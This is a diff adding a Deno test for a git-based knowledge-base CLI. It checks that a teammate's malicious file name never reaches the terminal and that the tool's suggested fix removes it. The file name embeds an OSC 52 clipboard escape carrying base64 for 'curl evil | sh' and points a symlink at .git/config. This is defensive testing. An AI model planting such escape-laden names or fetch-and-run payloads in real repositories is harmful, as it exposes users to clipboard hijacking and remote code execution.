@@ -93,6 +93,29 @@ Deno.test("a teammate's symlink to .git/config is never served: not indexed, not
   });
 });
 
+Deno.test("a teammate's file name with terminal escapes reaches no terminal; doctor's fix, pasted, removes it", async () => {
+  const { kb, teammate } = await victimAndTeammate();
+  await using _kb = kb;
+  // OSC 52 writes the clipboard in many terminals; ESC [2J clears the screen.
+  const name = "kb-aaaaa-\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07\x1b[2J.md";
+  await Deno.symlink("../.git/config", join(teammate, "entries", name));
+  await pushAll(teammate, "kb: add kb-aaaaa");
+  assert.equal((await runCli(["sync"], { env: kb.env })).code, 0);
+
+  const doctor = await runCli(["doctor", "--offline"], { env: kb.env });
+  const got = await runCli(["get", "kb-aaaaa"], { env: kb.env });
+  for (const result of [doctor, got]) {
+    assert.equal(result.code, 1, show(result));
+    const printed = result.stdout + result.stderr;
+    assert.ok(!printed.includes("\x1b") && !printed.includes("\x07"), show(result));
+  }
+  const fix = /is a symlink.*; fix: (.*)$/m.exec(doctor.stdout)?.[1];
+  if (!fix) throw new Error(`no fix for the link: ${show(doctor)}`);
+  const pasted = await new Deno.Command("sh", { args: ["-c", fix] }).output();
+  assert.equal(pasted.code, 0, new TextDecoder().decode(pasted.stderr));
+  await assert.rejects(Deno.lstat(join(kb.dir, "entries", name)), Deno.errors.NotFound);
+});
+
 Deno.test("entries are never read through a symlinked folder, nor from a path the cache names outside entries/", async () => {
   await using temp = await tempDir("git-kb-links-");
   const kbDir = join(temp.path, "kb");
